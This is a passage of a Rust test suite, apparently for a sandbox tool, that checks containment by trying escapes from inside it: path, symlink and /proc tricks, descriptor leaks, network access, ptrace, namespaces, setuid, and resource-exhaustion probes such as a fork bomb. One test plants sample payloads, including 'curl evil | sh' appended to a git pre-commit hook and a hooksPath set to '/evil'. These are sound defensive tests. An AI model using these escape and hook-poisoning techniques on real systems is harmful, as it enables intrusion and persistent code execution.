//! Containment, driven through `sidejob exec` (no daemon): the probe tries each escape from
//! inside the sandbox and reports; every denial has a positive control (the same operation
//! where it is allowed, or outside the sandbox) and checks the host-side effect.
//!
//! These need root (the sandbox's mount view, cgroups and uid changes); they skip with a
//! printed reason otherwise.

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;
use sidejob_tests::{is_root, sidejob_bin, skip_unless, TempDir};

/// The probe binary built next to `sidejob`.
pub fn probe_bin() -> PathBuf {
    sidejob_bin()
        .parent()
        .expect("target dir")
        .join("sidejob-probe")
}

/// A workspace with the probe copied in (the host's build tree is not in the view).
pub struct Ws {
    pub dir: TempDir,
    /// Outside the workspace, for host-side files the sandbox must not see.
    pub outside: TempDir,
}

impl Ws {
    pub fn new() -> Option<Ws> {
        if skip_unless(
            is_root(),
            "containment tests need root (mount view, cgroups, uid changes)",
        ) {
            return None;
        }
        let dir = TempDir::new("ws");
        std::fs::copy(probe_bin(), dir.path().join("probe")).expect("copy probe");
        Some(Ws {
            dir,
            outside: TempDir::new("outside"),
        })
    }

    pub fn path(&self) -> &Path {
        self.dir.path()
    }

    pub fn probe(&self) -> String {
        self.path().join("probe").display().to_string()
    }

    /// Writes a profile file next to (not inside) the workspace.
    pub fn profile(&self, name: &str, body: &str) -> String {
        let p = self.outside.path().join(format!("{name}.toml"));
        std::fs::write(&p, body).expect("profile");
        p.display().to_string()
    }
}

/// A profile like workspace-write with extra TOML lines at the top level and in `[limits]`.
pub fn profile_with(top: &str, limits: &str) -> String {
    format!(
        r#"{top}
[paths]
readable = ["/usr", "/bin", "/lib", "/lib64", "/etc/ld.so.cache", "/etc/passwd", "/etc/group"]
executable = ["/usr", "/bin", "/lib", "/lib64", "{{workspace}}", "{{tmp}}"]
writable = ["{{workspace}}", "{{tmp}}"]
protected = [".git/hooks", ".git/config"]
[limits]
{limits}
[env]
allow = ["TERM"]
[env.set]
PATH = "/usr/bin:/bin"
HOME = "{{workspace}}"
"#
    )
}

pub struct Out {
    pub code: i32,
    pub stdout: String,
    pub stderr: String,
}

impl Out {
    /// The probe's JSON report (the first line of stdout that parses).
    pub fn report(&self) -> Value {
        self.stdout
            .lines()
            .find_map(|l| {
                serde_json::from_str::<Value>(l)
                    .ok()
                    .filter(|v| v.get("op").is_some())
            })
            .unwrap_or_else(|| {
                panic!(
                    "no probe report; code {} stdout {:?} stderr {:?}",
                    self.code, self.stdout, self.stderr
                )
            })
    }

    pub fn errno(&self) -> i64 {
        self.report()["errno"].as_i64().unwrap_or(0)
    }

    pub fn ok(&self) -> bool {
        self.report()["ok"] == true
    }

    /// The `--json` result printed last.
    pub fn result(&self) -> Value {
        let start = self
            .stdout
            .rfind("\n{\n")
            .map(|i| i + 1)
            .or_else(|| self.stdout.starts_with("{\n").then_some(0));
        let text =
            &self.stdout[start.unwrap_or_else(|| panic!("no result json in {:?}", self.stdout))..];
        serde_json::from_str(text).unwrap_or_else(|e| panic!("result json: {e}: {text}"))
    }
}

/// Runs `sidejob exec [extra] -- cmd` in the workspace.
pub fn exec(ws: &Ws, extra: &[&str], cmd: &[&str]) -> Out {
    exec_env(ws, extra, cmd, &[])
}

pub fn exec_env(ws: &Ws, extra: &[&str], cmd: &[&str], env: &[(&str, &str)]) -> Out {
    let mut c = Command::new(sidejob_bin());
    c.arg("exec")
        .arg("--workspace")
        .arg(ws.path())
        .args(extra)
        .arg("--")
        .args(cmd);
    c.current_dir(ws.path()).stdin(Stdio::null());
    for (k, v) in env {
        c.env(k, v);
    }
    let o = c.output().expect("run sidejob exec");
    Out {
        code: o.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
    }
}

/// Runs the probe inside the sandbox.
pub fn inside(ws: &Ws, args: &[&str]) -> Out {
    let probe = ws.probe();
    let mut cmd = vec![probe.as_str()];
    cmd.extend_from_slice(args);
    exec(ws, &[], &cmd)
}

/// Runs the probe on the host, unconfined: the positive control.
pub fn outside(args: &[&str]) -> Out {
    let o = Command::new(probe_bin())
        .args(args)
        .stdin(Stdio::null())
        .output()
        .expect("run probe");
    Out {
        code: o.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
    }
}

fn secret_file(ws: &Ws) -> PathBuf {
    let p = ws.outside.path().join("secret.txt");
    std::fs::write(&p, "TOP-SECRET").expect("secret");
    p
}

// ---- filesystem ------------------------------------------------------------------------------

#[test]
fn a_file_outside_the_allowed_roots_is_not_readable() {
    let Some(ws) = Ws::new() else { return };
    let secret = secret_file(&ws);
    let out = inside(&ws, &["read", secret.to_str().unwrap()]);
    assert!(!out.ok(), "{}", out.stdout);
    assert_eq!(
        out.errno(),
        libc::ENOENT as i64,
        "not even in the view: {}",
        out.stdout
    );
    assert!(!out.stdout.contains("TOP-SECRET"));
    // Controls: a workspace file reads inside; the secret reads outside.
    std::fs::write(ws.path().join("mine.txt"), "MINE").unwrap();
    let mine = inside(&ws, &["read", ws.path().join("mine.txt").to_str().unwrap()]);
    assert!(
        mine.ok() && mine.report()["detail"] == "MINE",
        "{}",
        mine.stdout
    );
    assert!(outside(&["read", secret.to_str().unwrap()]).ok());
}

#[test]
fn home_root_run_and_state_directories_are_not_in_the_view() {
    let Some(ws) = Ws::new() else { return };
    for p in [
        "/root",
        "/home",
        "/run",
        "/var/run",
        "/var/lib",
        "/etc/shadow",
        "/sys",
    ] {
        let out = inside(&ws, &["ls", p]);
        assert_eq!(
            out.errno(),
            libc::ENOENT as i64,
            "{p} is in the view: {}",
            out.stdout
        );
    }
    // Control: the view does hold what the profile names.
    let usr = inside(&ws, &["ls", "/usr"]);
    assert!(
        usr.ok() && usr.report()["detail"].as_str().unwrap().contains("bin"),
        "{}",
        usr.stdout
    );
    assert!(outside(&["ls", "/root"]).ok());
}

#[test]
fn a_symlink_in_the_workspace_does_not_lead_outside() {
    let Some(ws) = Ws::new() else { return };
    let secret = secret_file(&ws);
    let link = ws.path().join("link");
    std::os::unix::fs::symlink(&secret, &link).unwrap();
    let out = inside(&ws, &["read", link.to_str().unwrap()]);
    assert!(
        !out.ok() && !out.stdout.contains("TOP-SECRET"),
        "{}",
        out.stdout
    );
    // Control: the same symlink reads on the host; a symlink to a workspace file reads inside.
    assert!(outside(&["read", link.to_str().unwrap()]).ok());
    std::fs::write(ws.path().join("target.txt"), "T").unwrap();
    std::os::unix::fs::symlink(ws.path().join("target.txt"), ws.path().join("good")).unwrap();
    assert!(inside(&ws, &["read", ws.path().join("good").to_str().unwrap()]).ok());
}

#[test]
fn proc_pid_root_does_not_lead_to_the_host() {
    let Some(ws) = Ws::new() else { return };
    let secret = secret_file(&ws);
    for pid in ["1", "self"] {
        let via = format!("/proc/{pid}/root{}", secret.display());
        let out = inside(&ws, &["read", &via]);
        assert!(
            !out.ok() && !out.stdout.contains("TOP-SECRET"),
            "{via}: {}",
            out.stdout
        );
    }
    // The run's init is not dumpable: its /proc entries are closed to the command.
    let init_root = inside(&ws, &["ls", "/proc/1/root/"]);
    assert!(!init_root.ok(), "{}", init_root.stdout);
    // Control: /proc/self/root of the command is its own view and works.
    std::fs::write(ws.path().join("mine.txt"), "MINE").unwrap();
    let own = format!("/proc/self/root{}", ws.path().join("mine.txt").display());
    assert!(inside(&ws, &["read", &own]).ok());
    // And on the host /proc/self/root reaches the secret.
    assert!(outside(&["read", &format!("/proc/self/root{}", secret.display())]).ok());
}

#[test]
fn no_inherited_descriptor_reaches_the_command() {
    let Some(ws) = Ws::new() else { return };
    let secret = secret_file(&ws);
    // Leak a descriptor of the secret into `sidejob exec` (clear close-on-exec), at fd 9.
    let f = std::fs::File::open(&secret).unwrap();
    use std::os::fd::AsRawFd;
    let raw = f.as_raw_fd();
    let mut c = Command::new(sidejob_bin());
    c.args(["exec", "--workspace"])
        .arg(ws.path())
        .arg("--")
        .arg(ws.probe());
    let mut c2 = Command::new(sidejob_bin());
    c2.args(["exec", "--workspace"])
        .arg(ws.path())
        .arg("--")
        .arg(ws.probe())
        .args(["read", "/proc/self/fd/9"]);
    for cmd in [&mut c, &mut c2] {
        // SAFETY: dup2 in the child between fork and exec only touches descriptors.
        unsafe {
            std::os::unix::process::CommandExt::pre_exec(cmd, move || {
                if libc::dup2(raw, 9) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        cmd.stdin(Stdio::null());
    }
    c.arg("fds");
    let fds = c.output().unwrap();
    let fds = String::from_utf8_lossy(&fds.stdout).into_owned();
    assert!(!fds.contains("secret"), "leaked: {fds}");
    assert!(!fds.contains("9="), "fd 9 crossed: {fds}");
    let read = c2.output().unwrap();
    let read = String::from_utf8_lossy(&read.stdout).into_owned();
    assert!(!read.contains("TOP-SECRET"), "{read}");
    // Control: outside the sandbox the leaked descriptor reads the secret.
    let mut ctl = Command::new(probe_bin());
    ctl.args(["read", "/proc/self/fd/9"]);
    // SAFETY: as above.
    unsafe {
        std::os::unix::process::CommandExt::pre_exec(&mut ctl, move || {
            if libc::dup2(raw, 9) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let ctl = ctl.output().unwrap();
    assert!(String::from_utf8_lossy(&ctl.stdout).contains("TOP-SECRET"));
    drop(f);
}

#[test]
fn writing_outside_the_workspace_fails_and_the_host_is_unchanged() {
    let Some(ws) = Ws::new() else { return };
    let target = ws.outside.path().join("planted");
    let out = inside(&ws, &["write", target.to_str().unwrap(), "x"]);
    assert!(!out.ok(), "{}", out.stdout);
    assert!(!target.exists());
    let etc = inside(&ws, &["write", "/etc/planted", "x"]);
    assert!(!etc.ok(), "{}", etc.stdout);
    assert!(!Path::new("/etc/planted").exists());
    let usr = inside(&ws, &["write", "/usr/bin/planted", "x"]);
    assert!(!usr.ok());
    assert!(!Path::new("/usr/bin/planted").exists());
    // Control: the workspace is writable and the write lands on the host.
    let ok = inside(
        &ws,
        &["write", ws.path().join("made").to_str().unwrap(), "hello"],
    );
    assert!(ok.ok(), "{}", ok.stdout);
    assert_eq!(
        std::fs::read_to_string(ws.path().join("made")).unwrap(),
        "hello"
    );
}

#[test]
fn the_private_tmp_is_private_and_gone_after_the_run() {
    let Some(ws) = Ws::new() else { return };
    let out = inside(&ws, &["write", "/tmp/sidejob-private-probe", "x"]);
    assert!(out.ok(), "control: /tmp is writable inside: {}", out.stdout);
    assert!(
        !Path::new("/tmp/sidejob-private-probe").exists(),
        "it landed in the host's /tmp"
    );
    let later = inside(&ws, &["read", "/tmp/sidejob-private-probe"]);
    assert!(!later.ok(), "a later run sees it: {}", later.stdout);
}

#[test]
fn writing_proc_sys_is_refused() {
    let Some(ws) = Ws::new() else { return };
    let before = std::fs::read_to_string("/proc/sys/kernel/domainname").unwrap();
    let out = inside(&ws, &["write", "/proc/sys/kernel/domainname", "escaped"]);
    assert!(!out.ok(), "{}", out.stdout);
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/domainname").unwrap(),
        before
    );
    let trigger = inside(&ws, &["write", "/proc/sysrq-trigger", "h"]);
    assert!(!trigger.ok(), "{}", trigger.stdout);
    // Control: reading it works inside.
    assert!(inside(&ws, &["read", "/proc/sys/kernel/domainname"]).ok());
}

// ---- protected paths -------------------------------------------------------------------------

fn git_ws(ws: &Ws) {
    let git = ws.path().join(".git");
    std::fs::create_dir_all(git.join("hooks")).unwrap();
    std::fs::write(git.join("config"), "[core]\n").unwrap();
    std::fs::write(git.join("hooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::write(git.join("description"), "repo\n").unwrap();
}

#[test]
fn protected_git_paths_stay_read_only_directly_and_through_rename_and_link() {
    let Some(ws) = Ws::new() else { return };
    git_ws(&ws);
    let g = |p: &str| ws.path().join(".git").join(p).display().to_string();
    let tries: Vec<Vec<String>> = vec![
        vec![
            "write".into(),
            g("config"),
            "[core]\nhooksPath=/evil\n".into(),
        ],
        vec![
            "append".into(),
            g("hooks/pre-commit"),
            "curl evil | sh\n".into(),
        ],
        vec!["write".into(), g("hooks/post-checkout"), "evil".into()],
        vec!["remove".into(), g("config")],
        vec!["rename".into(), g("config"), g("config.moved")],
        vec!["rename".into(), g("hooks"), g("hooks.moved")],
        vec![
            "rename".into(),
            ws.path().join(".git").display().to_string(),
            ws.path().join("git.moved").display().to_string(),
        ],
        vec![
            "link".into(),
            g("config"),
            ws.path().join("config.link").display().to_string(),
        ],
    ];
    for t in &tries {
        let args: Vec<&str> = t.iter().map(String::as_str).collect();
        let out = inside(&ws, &args);
        assert!(!out.ok(), "{args:?} succeeded: {}", out.stdout);
    }
    assert_eq!(std::fs::read_to_string(g("config")).unwrap(), "[core]\n");
    assert_eq!(
        std::fs::read_to_string(g("hooks/pre-commit")).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    assert!(!Path::new(&g("hooks/post-checkout")).exists());
    assert!(!ws.path().join("git.moved").exists() && !ws.path().join("config.link").exists());
    // Control: the rest of .git is writable.
    let ok = inside(&ws, &["write", &g("description"), "changed\n"]);
    assert!(ok.ok(), "{}", ok.stdout);
    assert_eq!(
        std::fs::read_to_string(g("description")).unwrap(),
        "changed\n"
    );
}

#[test]
fn a_symlink_swapped_in_for_a_protected_path_is_refused() {
    let Some(ws) = Ws::new() else { return };
    git_ws(&ws);
    let config = ws.path().join(".git/config");
    std::fs::remove_file(&config).unwrap();
    std::fs::write(ws.path().join("evil-config"), "[core]\n").unwrap();
    std::os::unix::fs::symlink(ws.path().join("evil-config"), &config).unwrap();
    let out = exec(
        &ws,
        &[],
        &[
            &ws.probe(),
            "write",
            ws.path().join("evil-config").to_str().unwrap(),
            "x",
        ],
    );
    assert_eq!(
        out.code, 125,
        "refused before the command ran: {} {}",
        out.stdout, out.stderr
    );
    assert!(out.stderr.contains("protect"), "{}", out.stderr);
    assert_eq!(
        std::fs::read_to_string(ws.path().join("evil-config")).unwrap(),
        "[core]\n"
    );
    // Control: with the real file back, the run goes ahead.
    std::fs::remove_file(&config).unwrap();
    std::fs::write(&config, "[core]\n").unwrap();
    assert!(inside(&ws, &["read", config.to_str().unwrap()]).ok());
}

#[test]
fn a_hard_link_to_a_protected_file_is_refused() {
    let Some(ws) = Ws::new() else { return };
    git_ws(&ws);
    let alias = ws.path().join("alias");
    std::fs::hard_link(ws.path().join(".git/hooks/pre-commit"), &alias).unwrap();
    let out = exec(
        &ws,
        &[],
        &[&ws.probe(), "append", alias.to_str().unwrap(), "evil"],
    );
    assert_eq!(out.code, 125, "{} {}", out.stdout, out.stderr);
    assert_eq!(
        std::fs::read_to_string(&alias).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    // Control: without the extra link the run goes ahead.
    std::fs::remove_file(&alias).unwrap();
    assert!(inside(
        &ws,
        &[
            "read",
            ws.path().join(".git/hooks/pre-commit").to_str().unwrap()
        ]
    )
    .ok());
}

// ---- network ---------------------------------------------------------------------------------

#[test]
fn tcp_to_a_host_listener_is_refused_and_the_listener_sees_nothing() {
    let Some(ws) = Ws::new() else { return };
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    l.set_nonblocking(true).unwrap();
    let addr = l.local_addr().unwrap().to_string();
    for profile in ["workspace-write", "read-only", "ci"] {
        let out = exec(&ws, &["--profile", profile], &[&ws.probe(), "tcp", &addr]);
        assert!(!out.ok(), "{profile}: {}", out.stdout);
    }
    let loopback = ws.profile("lo", &profile_with("network = \"loopback\"", ""));
    let out = exec(&ws, &["--profile", &loopback], &[&ws.probe(), "tcp", &addr]);
    assert_eq!(
        out.errno(),
        libc::ECONNREFUSED as i64,
        "loopback is the run's own: {}",
        out.stdout
    );
    assert!(l.accept().is_err(), "the listener saw a connection");
    // Control: from the host it connects.
    assert!(outside(&["tcp", &addr]).ok());
    assert!(l.accept().is_ok());
}

#[test]
fn udp_to_a_host_listener_is_refused_and_the_listener_sees_nothing() {
    let Some(ws) = Ws::new() else { return };
    let s = UdpSocket::bind("127.0.0.1:0").unwrap();
    s.set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let addr = s.local_addr().unwrap().to_string();
    let out = inside(&ws, &["udp", &addr]);
    assert!(!out.ok(), "{}", out.stdout);
    let loopback = ws.profile("lo", &profile_with("network = \"loopback\"", ""));
    let lo = exec(&ws, &["--profile", &loopback], &[&ws.probe(), "udp", &addr]);
    let mut buf = [0u8; 16];
    assert!(
        s.recv(&mut buf).is_err(),
        "the listener got a datagram (loopback sent: {})",
        lo.stdout
    );
    // Control.
    assert!(outside(&["udp", &addr]).ok());
    assert_eq!(s.recv(&mut buf).unwrap(), 5);
}

#[test]
fn the_loopback_profile_gives_the_run_its_own_working_loopback() {
    let Some(ws) = Ws::new() else { return };
    let loopback = ws.profile("lo", &profile_with("network = \"loopback\"", ""));
    let out = exec(
        &ws,
        &["--profile", &loopback],
        &[&ws.probe(), "tcp-listen", "127.0.0.1:0"],
    );
    assert!(out.ok(), "{} {}", out.stdout, out.stderr);
    // Under network = none there is no loopback to bind at all.
    let none = inside(&ws, &["tcp-listen", "127.0.0.1:0"]);
    assert!(!none.ok());
}

#[test]
fn unix_sockets_outside_abstract_and_pathname_are_unreachable() {
    let Some(ws) = Ws::new() else { return };
    let path = ws.outside.path().join("host.sock");
    let pl = std::os::unix::net::UnixListener::bind(&path).unwrap();
    pl.set_nonblocking(true).unwrap();
    let name = format!("sidejob-test-{}", std::process::id());
    let al = abstract_listener(&name);
    let p = inside(&ws, &["unix", path.to_str().unwrap()]);
    assert_eq!(p.errno(), libc::ENOENT as i64, "{}", p.stdout);
    let a = inside(&ws, &["abstract", &name]);
    assert!(!a.ok(), "{}", a.stdout);
    assert!(
        pl.accept().is_err(),
        "the pathname listener saw a connection"
    );
    assert!(!accepts(al), "the abstract listener saw a connection");
    // Controls: both reachable from the host.
    assert!(outside(&["unix", path.to_str().unwrap()]).ok());
    let al = abstract_listener(&format!("{name}-2"));
    assert!(outside(&["abstract", &format!("{name}-2")]).ok());
    assert!(accepts(al));
}

fn abstract_listener(name: &str) -> i32 {
    // SAFETY: plain socket calls on a sockaddr_un we fill.
    unsafe {
        let fd = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0);
        let mut addr: libc::sockaddr_un = std::mem::zeroed();
        addr.sun_family = libc::AF_UNIX as libc::sa_family_t;
        for (i, b) in name.bytes().enumerate() {
            addr.sun_path[i + 1] = b as libc::c_char;
        }
        let len = (std::mem::size_of::<libc::sa_family_t>() + 1 + name.len()) as libc::socklen_t;
        assert_eq!(
            libc::bind(fd, &addr as *const _ as *const libc::sockaddr, len),
            0
        );
        assert_eq!(libc::listen(fd, 4), 0);
        fd
    }
}

fn accepts(fd: i32) -> bool {
    // SAFETY: accept on our non-blocking listener; both descriptors are closed after.
    unsafe {
        let c = libc::accept(fd, std::ptr::null_mut(), std::ptr::null_mut());
        if c >= 0 {
            libc::close(c);
        }
        libc::close(fd);
        c >= 0
    }
}

// ---- processes and the kernel ----------------------------------------------------------------

#[test]
fn ptrace_is_denied() {
    let Some(ws) = Ws::new() else { return };
    let out = inside(&ws, &["ptrace", "1"]);
    assert_eq!(out.errno(), libc::EPERM as i64, "{}", out.stdout);
    // Control: on the host, root may attach to a process of its own.
    let mut sleeper = Command::new("sleep").arg("30").spawn().unwrap();
    let ctl = outside(&["ptrace", &sleeper.id().to_string()]);
    let _ = sleeper.kill();
    let _ = sleeper.wait();
    assert!(ctl.ok(), "{}", ctl.stdout);
}

#[test]
fn a_process_outside_cannot_be_signalled() {
    let Some(ws) = Ws::new() else { return };
    let mut victim = Command::new("sleep").arg("30").spawn().unwrap();
    let pid = victim.id().to_string();
    let out = inside(&ws, &["kill", &pid, "9"]);
    assert!(!out.ok(), "{}", out.stdout);
    assert!(
        sidejob_tests::process_alive(victim.id() as i32),
        "the host process died"
    );
    // Control: from the host the same signal lands.
    assert!(outside(&["kill", &pid, "9"]).ok());
    let status = victim.wait().unwrap();
    assert_eq!(
        std::os::unix::process::ExitStatusExt::signal(&status),
        Some(9)
    );
}

#[test]
fn mount_unshare_and_setns_are_denied() {
    let Some(ws) = Ws::new() else { return };
    let m = inside(&ws, &["mount", "/tmp/m"]);
    assert_eq!(m.errno(), libc::EPERM as i64, "{}", m.stdout);
    for kind in ["user", "net", "mount"] {
        let u = inside(&ws, &["unshare", kind]);
        assert_eq!(
            u.errno(),
            libc::EPERM as i64,
            "unshare {kind}: {}",
            u.stdout
        );
    }
    let s = inside(&ws, &["setns", "/proc/self/ns/net"]);
    assert!(!s.ok(), "{}", s.stdout);
    // Controls on the host (root): unsharing a user namespace and joining our own netns work.
    assert!(outside(&["unshare", "user"]).ok());
    assert!(outside(&["setns", "/proc/self/ns/net"]).ok());
}

#[test]
fn tiocsti_io_uring_bpf_and_keyctl_are_denied() {
    let Some(ws) = Ws::new() else { return };
    for op in ["tiocsti", "io_uring", "bpf", "keyctl"] {
        let out = inside(&ws, &[op]);
        assert_eq!(out.errno(), libc::EPERM as i64, "{op}: {}", out.stdout);
        // Control: on the host the call reaches the kernel (it may still fail, e.g. TIOCSTI on
        // a non-terminal, but not with the filter's EPERM).
        let ctl = outside(&[op]);
        assert!(
            ctl.ok() || ctl.errno() != libc::EPERM as i64,
            "{op} outside: {}",
            ctl.stdout
        );
    }
}

#[test]
fn clone3_answers_enosys_so_libc_falls_back_to_clone() {
    let Some(ws) = Ws::new() else { return };
    let out = inside(&ws, &["clone3"]);
    assert_eq!(out.errno(), libc::ENOSYS as i64, "{}", out.stdout);
    assert!(
        outside(&["clone3"]).ok(),
        "control: clone3 works on the host"
    );
    // And ordinary process creation still works inside.
    let sh = exec(&ws, &[], &["/bin/sh", "-c", "/bin/true && echo forked"]);
    assert!(sh.stdout.contains("forked"), "{}", sh.stdout);
}

#[test]
fn memfd_create_then_execveat_is_refused() {
    let Some(ws) = Ws::new() else { return };
    let out = inside(&ws, &["memfd-exec"]);
    assert!(!out.ok(), "{}", out.stdout);
    assert_eq!(out.code, 1);
    // Control: on the host the memfd executes (/bin/true replaces the probe: exit 0, no report).
    let ctl = outside(&["memfd-exec"]);
    assert_eq!(ctl.code, 0, "{} {}", ctl.stdout, ctl.stderr);
}

#[test]
fn capabilities_are_gone_and_no_new_privs_is_set() {
    let Some(ws) = Ws::new() else { return };
    let out = inside(&ws, &["status"]);
    let d = out.report()["detail"].as_str().unwrap().to_owned();
    for set in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        assert!(
            d.contains(&format!("{set}:\t0000000000000000")),
            "{set}: {d}"
        );
    }
    assert!(
        d.contains("NoNewPrivs:\t1") && d.contains("Seccomp:\t2"),
        "{d}"
    );
    // Control: the host process has capabilities (we are root).
    let ctl = outside(&["status"]);
    assert!(!ctl.report()["detail"]
        .as_str()
        .unwrap()
        .contains("CapEff:\t0000000000000000"));
}

/// A copy of the probe owned by root with the setuid bit, and one with a file capability.
fn privileged_copies(ws: &Ws) -> (PathBuf, PathBuf) {
    let suid = ws.path().join("suid-probe");
    std::fs::copy(probe_bin(), &suid).unwrap();
    std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let capped = ws.path().join("cap-probe");
    std::fs::copy(probe_bin(), &capped).unwrap();
    std::fs::set_permissions(&capped, std::fs::Permissions::from_mode(0o755)).unwrap();
    // struct vfs_cap_data, revision 2: CAP_NET_RAW (13) permitted, effective flag set.
    let mut data = [0u8; 20];
    data[0..4].copy_from_slice(&(0x0200_0000u32 | 1).to_le_bytes());
    data[4..8].copy_from_slice(&(1u32 << 13).to_le_bytes());
    let path = std::ffi::CString::new(capped.to_str().unwrap()).unwrap();
    // SAFETY: a NUL-terminated path, name and a buffer of the length we pass.
    let r = unsafe {
        libc::setxattr(
            path.as_ptr(),
            c"security.capability".as_ptr(),
            data.as_ptr().cast(),
            data.len(),
            0,
        )
    };
    assert_eq!(r, 0, "setxattr: {}", std::io::Error::last_os_error());
    (suid, capped)
}

#[test]
fn a_setuid_binary_and_a_file_with_capabilities_gain_nothing() {
    let Some(ws) = Ws::new() else { return };
    let (suid, capped) = privileged_copies(&ws);
    // The workspace must be reachable for uid 65534.
    std::fs::set_permissions(ws.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let nobody = ws.profile("nobody", &profile_with("run_as = \"nobody\"", ""));
    let s = exec(
        &ws,
        &["--profile", &nobody],
        &[suid.to_str().unwrap(), "status"],
    );
    let d = s.report()["detail"].as_str().unwrap().to_owned();
    assert!(
        d.contains("Uid:\t65534\t65534\t65534"),
        "setuid took effect: {d}"
    );
    let c = exec(
        &ws,
        &["--profile", &nobody],
        &[capped.to_str().unwrap(), "status"],
    );
    let d = c.report()["detail"].as_str().unwrap().to_owned();
    assert!(
        d.contains("CapEff:\t0000000000000000") && d.contains("CapPrm:\t0000000000000000"),
        "{d}"
    );
    // Controls on the host, as nobody: the setuid bit and the file capability both work.
    let run_as_nobody = |p: &Path| {
        let o = Command::new(p)
            .arg("status")
            .uid(65534)
            .gid(65534)
            .output()
            .unwrap();
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    use std::os::unix::process::CommandExt;
    let d = run_as_nobody(&suid);
    assert!(d.contains("Uid:\\t65534\\t0\\t0"), "control setuid: {d}");
    let d = run_as_nobody(&capped);
    assert!(
        !d.contains("CapEff:\\t0000000000000000"),
        "control caps: {d}"
    );
}

// ---- limits ----------------------------------------------------------------------------------

#[test]
fn a_fork_bomb_is_bounded_and_the_host_stays_healthy() {
    let Some(ws) = Ws::new() else { return };
    let p = ws.profile("pids", &profile_with("", "pids = 64"));
    let t = Instant::now();
    let out = exec(
        &ws,
        &["--profile", &p, "--json"],
        &[&ws.probe(), "fork-bomb", "100000"],
    );
    let r = out.report();
    assert_eq!(r["ok"], false, "{}", out.stdout);
    let made: u32 = r["detail"]
        .as_str()
        .unwrap()
        .split_whitespace()
        .nth(1)
        .unwrap()
        .parse()
        .unwrap();
    assert!(made < 64, "forked {made}");
    assert!(
        out.result()["violations"]
            .as_array()
            .unwrap()
            .iter()
            .any(|v| v == "pids_limit"),
        "{}",
        out.stdout
    );
    assert!(t.elapsed() < Duration::from_secs(30));
    // Control: the host can still fork, and the same probe forks freely under a higher cap.
    assert!(Command::new("/bin/true").status().unwrap().success());
    let roomy = ws.profile("roomy", &profile_with("", "pids = 512"));
    let ok = exec(
        &ws,
        &["--profile", &roomy],
        &[&ws.probe(), "fork-bomb", "100"],
    );
    assert!(ok.ok(), "{}", ok.stdout);
}

#[test]
fn a_memory_hog_is_killed_at_the_limit() {
    let Some(ws) = Ws::new() else { return };
    let p = ws.profile("mem", &profile_with("", "memory = \"64MiB\""));
    let out = exec(
        &ws,
        &["--profile", &p, "--json"],
        &[&ws.probe(), "alloc", "512"],
    );
    let r = out.result();
    assert_eq!(r["signal"], 9, "{}", out.stdout);
    assert_eq!(out.code, 137);
    assert!(
        r["violations"]
            .as_array()
            .unwrap()
            .iter()
            .any(|v| v == "oom_kill"),
        "{r}"
    );
    // Control: under the limit the same allocation pattern succeeds.
    let ok = exec(&ws, &["--profile", &p], &[&ws.probe(), "alloc", "16"]);
    assert!(ok.ok(), "{}", ok.stdout);
}

#[test]
fn a_cpu_spin_ends_at_the_timeout_with_exit_124() {
    let Some(ws) = Ws::new() else { return };
    let t = Instant::now();
    let out = exec(&ws, &["--timeout", "1s", "--json"], &[&ws.probe(), "spin"]);
    assert_eq!(out.code, 124, "{} {}", out.stdout, out.stderr);
    assert!(t.elapsed() < Duration::from_secs(15), "{:?}", t.elapsed());
    let r = out.result();
    assert_eq!(r["reason"], "timeout");
    assert!(r["violations"]
        .as_array()
        .unwrap()
        .iter()
        .any(|v| v == "timeout"));
    // Control: a command that ends in time is not cut.
    assert_eq!(exec(&ws, &["--timeout", "10s"], &["/bin/true"]).code, 0);
}

#[test]
fn a_cpu_time_limit_stops_a_spin() {
    let Some(ws) = Ws::new() else { return };
    let p = ws.profile("cpu", &profile_with("", "cpu_time = \"1s\""));
    let out = exec(
        &ws,
        &["--profile", &p, "--json", "--timeout", "30s"],
        &[&ws.probe(), "spin"],
    );
    let r = out.result();
    assert_eq!(r["signal"], libc::SIGXCPU, "{}", out.stdout);
    assert!(
        r["violations"]
            .as_array()
            .unwrap()
            .iter()
            .any(|v| v == "cpu_limit"),
        "{r}"
    );
}

#[test]
fn an_output_flood_is_capped_not_blocked() {
    let Some(ws) = Ws::new() else { return };
    let p = ws.profile("out", &profile_with("", "output = \"1MiB\""));
    let t = Instant::now();
    let mut c = Command::new(sidejob_bin());
    c.args(["exec", "--json", "--profile", &p, "--workspace"])
        .arg(ws.path())
        .arg("--")
        .arg(ws.probe())
        .args(["flood", &(64u64 << 20).to_string()])
        .stdout(Stdio::piped())
        .stdin(Stdio::null());
    let mut child = c.spawn().unwrap();
    let mut all = Vec::new();
    child.stdout.take().unwrap().read_to_end(&mut all).unwrap();
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(0));
    assert!(t.elapsed() < Duration::from_secs(60));
    let text = String::from_utf8_lossy(&all);
    // The terminal gets everything; the log keeps the head and the tail.
    assert!(text.contains("FLOOD-END"));
    let json_start = text.rfind("\n{\n").unwrap() + 1;
    let r: Value = serde_json::from_str(&text[json_start..]).unwrap();
    assert_eq!(r["output_truncated"], true);
    assert!(r["output_bytes"].as_u64().unwrap() > 64 << 20);
    assert!(r["violations"]
        .as_array()
        .unwrap()
        .iter()
        .any(|v| v == "output_cap"));
    // Control: a small output is not truncated.
    let small = exec(
        &ws,
        &["--profile", &p, "--json"],
